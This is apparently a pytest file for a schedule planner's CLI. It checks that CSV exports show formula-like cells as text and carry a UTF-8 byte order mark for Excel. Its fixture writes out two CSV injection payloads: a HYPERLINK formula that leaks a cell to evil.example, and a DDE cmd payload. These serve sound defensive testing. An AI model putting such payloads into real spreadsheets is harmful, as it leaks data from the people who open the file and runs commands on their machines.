"""CSV files open safely and right in a spreadsheet: a schedule text that looks like a
formula is shown as text (OWASP's CSV injection advice), and a byte order mark makes Excel
on Windows read UTF-8 ("Fénix", "–") instead of its ANSI code page."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import MINIMAL, TODAY

from planner.cli import cli

FORMULAS = {
    "phase": '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "venue": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    text = (MINIMAL.read_text()
            .replace('name = "Year"', f"name = '{FORMULAS['phase']}'")
            .replace('name = "Mexico City"', f'name = "{FORMULAS["venue"]}"')
            .replace('title = "Staff talks"', 'title = "Fénix – Staff talks"'))
    assert FORMULAS["phase"] in text and FORMULAS["venue"] in text
    path = tmp_path / "hostile.toml"
    path.write_text(text, encoding="utf-8")
    return path


def rows_of(path: Path) -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def cells_starting_like_formulas(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("command", [["export", "--format", "csv"], ["apa", "2026"]])
def test_cells_that_look_like_formulas_are_shown_as_text(command: list[str], hostile: Path,
                                                         tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(cli, [*command, "-s", str(hostile), "-o", str(out),
                                      "--today", TODAY.isoformat()])
    assert result.exit_code == 0, result.output
    rows = rows_of(out)
    assert cells_starting_like_formulas(rows) == []
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULAS["venue"] in cells  # the place, as text
    if command[0] == "export":
        assert any(cell.startswith("'" + FORMULAS["phase"]) for cell in cells)


def test_non_ascii_survives_a_windows_spreadsheet(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    CliRunner().invoke(cli, ["export", "-s", str(hostile), "--format", "csv", "-o", str(out),
                             "--today", TODAY.isoformat()])
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # how Excel knows the file is UTF-8
    assert "Fénix – Staff talks" in data.decode("utf-8-sig")
